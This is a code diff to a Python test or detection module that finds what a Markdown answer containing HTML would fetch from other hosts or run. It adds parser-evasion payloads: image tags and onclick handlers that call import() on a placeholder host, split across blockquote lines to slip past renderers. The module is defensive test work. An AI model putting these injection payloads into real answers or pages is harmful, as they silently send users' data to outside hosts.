@@ -69,13 +69,20 @@ class _Page(HTMLParser):
 
 
 def fetched(answer: str) -> list[str]:
-    """What is fetched from other hosts or run when the answer is shown as Markdown with HTML in it."""
+    """What is fetched from other hosts or run when the answer is shown as Markdown with HTML in it.
+
+    By a reader of CommonMark, and by one that takes indented lines for no code, as MDX's (and as others where they see
+    a list): what either of them finds, where both do twice.
+    """
     from markdown_it import MarkdownIt
 
-    page = _Page()
-    page.feed(MarkdownIt("commonmark", {"html": True}).enable("table").render(answer))
-    page.close()
-    return page.found
+    found: list[str] = []
+    for without in ([], ["code"]):
+        page = _Page()
+        page.feed(MarkdownIt("commonmark", {"html": True}).enable("table").disable(without).render(answer))
+        page.close()
+        found += page.found
+    return found
 
 
 def exfiltrating() -> list[tuple[str, str]]:
@@ -122,6 +129,8 @@ def exfiltrating() -> list[tuple[str, str]]:
         ("HTML picture", f"a <!-- ` --> <img src='{at}'> `"),
         ("HTML picture", f"a <b title='`'> <img src='{at}'> `"),
         ("HTML picture", f'<div title="\n\n![x](y)<img src="{at}">'),
+        ("HTML picture", f'<img\n> src={at} <b\n><img\n>src="\n> {at}"\n> >'),
+        ("HTML picture", f"> <p\n> {'a ' * 300}<img\n>src={at}\n> x>"),
         ("HTML picture", f'<video poster="{at}"></video>'),
         ("HTML picture", f'<audio src="{at}" autoplay></audio>'),
         ("HTML picture", f'<input type=image src="{at}">'),
@@ -151,6 +160,7 @@ def exfiltrating() -> list[tuple[str, str]]:
         ("scripts", f"<details open ontoggle=import(`{bare}`)>x</details>"),
         ("scripts", "<x-y tabindex=1 autofocus onfocus='x()'>"),
         ("scripts", f"<b {'a ' * 400} onclick='import(&quot;{bare}&quot;)'>x</b>"),
+        ("scripts", f"> <div\n> {'a ' * 300}\n> onclick='import(`{bare}`)'\n> x>"),
         ("scripts", f'<div a="{"b" * 600}\n\n[x](/onmouseover=import(`{bare}`)//)'),
         ("scripts", '<p a="\n\n[x](/onmouseover=alert(1)//)'),
         ("scripts", "<div\n\n<!-- onmouseover=alert(1) -->"),
@@ -189,6 +199,7 @@ HARMLESS = (
     "1. Write:\n   ```html\n   <script>x()</script>\n\n   <img src='https://example.org/a.png'>\n   ```\n2. Save.",
     "[1]: https://example.org/a 'A note'\n\nSee [the note][1].",
     "See <https://example.org/a?b=c#d>.",
+    "    </P\n></DD\n" + '><DT\n>man</DT\n><DD\n><P\n>The <B\nCLASS="COMMAND"\n>man</B\n> command.\n' * 20,
     "table[all](\\d+) and this[x]('https://example.org/')",
 )
 """Answers that fetch nothing from strangers; code is shown and not run."""
